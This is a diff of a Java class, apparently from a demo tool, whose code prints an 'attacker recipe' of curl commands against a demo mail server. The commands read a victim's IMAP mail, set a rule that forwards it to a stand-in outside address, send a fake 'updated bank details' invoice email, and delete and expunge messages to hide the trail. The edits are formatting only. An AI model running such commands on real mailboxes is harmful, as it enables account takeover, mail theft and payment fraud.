@@ -16,6 +16,7 @@ final class AttackerRecipe {
     static final int READ_UID = 2;
     /** The message the attacker deletes to hide a reply: INBOX UID 3. */
     static final int DELETE_UID = 3;
+
     static final String FORWARD_TO = "drop@outside.example";
     static final String SEND_SUBJECT = "Updated bank details for invoice INV-2026-0412";
     static final String BEGIN = "  # --- attacker recipe: paste from here ---";
@@ -34,8 +35,8 @@ final class AttackerRecipe {
                 .append(ATTACKER_IP)
                 .append("): read, forward with a rule, send, delete; then scope the case:\n");
         out.append(BEGIN).append('\n');
-        out.append(String.format("  curl -s %s 'imap://%s:%d/INBOX;UID=%d' | head -5%n", as, DemoBanner.HOST, imap,
-                READ_UID));
+        out.append(String.format(
+                "  curl -s %s 'imap://%s:%d/INBOX;UID=%d' | head -5%n", as, DemoBanner.HOST, imap, READ_UID));
         if (demo.listens("managesieve")) {
             out.append(manageSieve(demo.port("managesieve")));
         } else if (demo.mailServer() instanceof DovecotDemoServer) {
@@ -50,8 +51,9 @@ final class AttackerRecipe {
                         + " \"$(date +%%s%%N)\" | curl -s %3$s smtp://%4$s:%5$d --mail-from %1$s"
                         + " --mail-rcpt ap@northwind.example --upload-file -%n",
                 DemoUsers.ALICE, SEND_SUBJECT, as, DemoBanner.HOST, demo.port("submission")));
-        out.append(String.format("  curl -s %s 'imap://%s:%d/INBOX' -X 'UID STORE %d +FLAGS (\\Deleted)'%n", as,
-                DemoBanner.HOST, imap, DELETE_UID));
+        out.append(String.format(
+                "  curl -s %s 'imap://%s:%d/INBOX' -X 'UID STORE %d +FLAGS (\\Deleted)'%n",
+                as, DemoBanner.HOST, imap, DELETE_UID));
         out.append(String.format("  curl -s %s 'imap://%s:%d/INBOX' -X 'EXPUNGE'%n", as, DemoBanner.HOST, imap));
         out.append(END).append('\n');
         if (!(demo.mailServer() instanceof DovecotDemoServer)) {
@@ -94,5 +96,4 @@ final class AttackerRecipe {
                                 .getBytes(java.nio.charset.StandardCharsets.UTF_8)),
                 script);
     }
-
 }
